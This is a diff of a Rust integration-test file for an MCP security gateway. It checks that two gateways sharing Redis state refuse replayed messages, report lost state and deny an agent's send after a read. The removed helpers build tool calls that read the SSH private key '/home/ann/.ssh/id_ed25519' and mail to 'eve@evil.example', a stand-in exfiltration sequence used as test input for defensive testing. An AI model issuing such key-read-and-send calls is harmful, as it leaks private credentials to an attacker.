@@ -1,6 +1,10 @@
 //! Two gateways in front of the same servers, which remember together: whichever of them is asked, it
 //! is as if there were one. What they cannot look up they refuse.
 
+mod anew;
+mod apart;
+mod opened;
+
 use std::fs;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
@@ -14,7 +18,7 @@ use tokio::task::JoinSet;
 
 use super::redis::Redis;
 use super::server::Server;
-use super::{Gate, over_http};
+use super::{Gate, call_with, over_http, read_key, send_mail};
 use crate::listen::caller::Caller;
 use crate::wire::{INITIALIZE, Process, Stage, code_of, eventually};
 
@@ -32,26 +36,16 @@ then = "deny"
 reason = "Five are enough."
 "#;
 
-fn call(id: u32, tool: &str, arguments: &Value) -> String {
-    let params = json!({"name": tool, "arguments": arguments});
-    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params}).to_string()
-}
-
 fn read(id: u32) -> String {
-    call(
-        id,
-        "files__read_file",
-        &json!({"path": "/home/ann/.ssh/id_ed25519"}),
-    )
+    read_key(id, "files__read_file")
 }
 
 fn send(id: u32) -> String {
-    let mail = json!({"to": "eve@evil.example", "body": "as asked"});
-    call(id, "mail__send_mail", &mail)
+    send_mail(id, "mail__send_mail")
 }
 
 fn look(id: u32) -> String {
-    call(id, "files__look", &json!({}))
+    call_with(id, "files__look", &json!({}))
 }
 
 /// A second gateway, reached under the name of the first too.
@@ -62,8 +56,8 @@ struct Other {
 }
 
 impl Other {
-    async fn beside(gate: &Gate) -> Self {
-        let home = gate.stage.world.enrol("gateway", "gateway-2", 2);
+    async fn beside(gate: &Gate, name: &str) -> Self {
+        let home = gate.stage.world.enrol("gateway", name, 2);
         let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
         let url = format!("http://{}/mcp", free.local_addr().unwrap());
         drop(free);
@@ -77,7 +71,7 @@ impl Other {
         let mut program = gate.stage.world.program("mcps-gateway");
         program.arg("--home").arg(home).arg("serve");
         program.arg("--config").arg(dir.join("gateway.toml"));
-        program.arg("--record").arg(dir.join("records-2"));
+        program.arg("--record").arg(home.with_extension("records"));
         program.args(["--public-url", &gate.url, "--listen", at]);
         program.args(["--status-refresh", "0"]);
         let mut process = Process::start(&gate.stage.world, program);
@@ -114,7 +108,7 @@ impl Office {
             over_http("mail", &mail)
         );
         let gate = Gate::open_on(stage, &config).await;
-        let other = Other::beside(&gate).await;
+        let other = Other::beside(&gate, "gateway-2").await;
         Self {
             redis,
             files,
@@ -316,135 +310,4 @@ async fn what_redis_does_not_answer_in_time_is_refused() {
         code.is_none().then_some(())
     })
     .await;
-}
-
-#[tokio::test]
-async fn a_redis_that_forgot_is_not_taken_for_one_in_which_nothing_happened() {
-    let office = Office::open(Redis::forgetful()).await;
-    let [one, other] = urls(&office).map(|url| Caller::of(&office.gate.stage.agent, url));
-    let (text, _) = one
-        .link
-        .seal_post(Message::parse(INITIALIZE).unwrap(), None)
-        .unwrap();
-    assert_eq!(one.post(text.clone()).await.status(), StatusCode::OK);
-    let said = plain_send(&office.gate.url).await;
-    assert!(said.contains("send_mail("), "{said}");
-    office.redis.say("FLUSHALL");
-
-    // What was signed before may have been used before.
-    let said = other.post(text).await.text().await.unwrap();
-    assert_eq!(code_of(&said), Some(Code::OutOfWindow), "{said}");
-    let (_, code) = begin(&office, &office.gate.url).await;
-    assert_eq!(code, Some(Code::OutOfWindow));
-
-    // And whoever does not sign may have read anything before.
-    let said = plain_send(&office.other.url).await;
-    assert_eq!(code_of(&said), Some(Code::Denied), "{said}");
-    assert_eq!(office.mail.seen("tools/call").len(), 1);
-    let words = office.other.process.words() + &office.gate.process.words();
-    assert!(words.contains("the shared state was lost"), "{words}");
-}
-
-#[tokio::test]
-async fn a_redis_that_fell_back_to_an_older_state_counts_as_one_that_forgot() {
-    let mut office = Office::open(Redis::forgetful()).await;
-    office.redis.say("SAVE");
-    let [one, _] = office.callers().await;
-    assert!(one.ask(&read(1)).await[0].contains("read_file("));
-    office.redis.stop();
-    office.redis.start();
-    eventually("it is noticed", async || {
-        let (_, code) = begin(&office, &office.gate.url).await;
-        (code == Some(Code::OutOfWindow)).then_some(())
-    })
-    .await;
-    assert!(
-        office
-            .gate
-            .process
-            .words()
-            .contains("the shared state was lost")
-    );
-}
-
-#[tokio::test]
-async fn what_cannot_be_opened_stops_the_start_and_says_why() {
-    let (redis, stage) = (Redis::forgetful(), Stage::set());
-    let dir = stage.world.dir();
-    let home = stage.world.enrol("gateway", "gateway", 2);
-    let table = redis.table(dir);
-    let start = |table: &str, password: Option<&str>| {
-        fs::write(
-            dir.join("gateway.toml"),
-            format!("{table}[tenant.default]\n"),
-        )
-        .unwrap();
-        let mut program = stage.world.program("mcps-gateway");
-        program.arg("--home").arg(&home).arg("serve");
-        program.arg("--config").arg(dir.join("gateway.toml"));
-        program.args(["--listen", "127.0.0.1:0"]);
-        program.envs(password.map(|password| ("MCPS_SHARED_PASSWORD", password)));
-        let done = program.output().unwrap();
-        assert!(!done.status.success());
-        let said = String::from_utf8(done.stderr).unwrap();
-        let at = format!("the shared state at 127.0.0.1:{}", redis.port());
-        assert!(said.contains(&at), "{said}");
-        assert!(!said.contains(&redis.password), "{said}");
-        said
-    };
-    let without = table.replace("password_file = \"redis-password\"\n", "");
-    let said = start(&without, None);
-    assert!(said.contains("asks for a password"), "{said}");
-    let said = start(&without, Some("wrong-by-a-mile"));
-    assert!(
-        said.contains("takes neither this user name nor this password"),
-        "{said}"
-    );
-    assert!(!said.contains("wrong-by-a-mile"), "{said}");
-    redis.say("CONFIG SET maxmemory 100mb");
-    redis.say("CONFIG SET maxmemory-policy allkeys-lru");
-    let said = start(&table, None);
-    assert!(said.contains("maxmemory-policy is allkeys-lru"), "{said}");
-    redis.signal("KILL");
-    let said = start(&table, None);
-    assert!(said.contains("cannot be reached"), "{said}");
-}
-
-#[tokio::test]
-async fn who_shares_no_more_knows_of_nobody_what_they_did_meanwhile() {
-    let files = Server::with(&["read_file"]).await;
-    let mail = Server::with(&["send_mail"]).await;
-    let redis = Redis::durable();
-    let stage = Stage::set();
-    let file = stage.world.dir().join("gateway.toml");
-    let table = redis.table(stage.world.dir());
-    let alone = format!(
-        "[tenant.default]\n{}[server.tool.read_file]\nclass = [\"read\"]\n{}[server.tool.send_mail]\nclass = [\"send\"]\n",
-        over_http("files", &files),
-        over_http("mail", &mail)
-    );
-    let mut gate = Gate::open_on(stage, &alone).await;
-    let session = async |gate: &Gate| {
-        eventually("the gateway takes messages again", async || {
-            let (_, code) = gate.caller("mail").refused(INITIALIZE).await;
-            code.is_none().then_some(())
-        })
-        .await;
-        let mut caller = Caller::of(&gate.stage.agent, &gate.url);
-        caller.open_session().await;
-        caller
-    };
-    // By itself it has a history of the agent in which nothing is wrong.
-    let caller = session(&gate).await;
-    assert!(caller.ask(&send(1)).await[0].contains("send_mail("));
-    fs::write(&file, format!("{table}{alone}")).unwrap();
-    gate.restart().await;
-    let caller = session(&gate).await;
-    assert!(caller.ask(&read(2)).await[0].contains("read_file("));
-    fs::write(&file, &alone).unwrap();
-    gate.restart().await;
-    let caller = session(&gate).await;
-    let told = caller.ask(&send(3)).await;
-    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
-    assert_eq!(mail.seen("tools/call").len(), 1);
 }
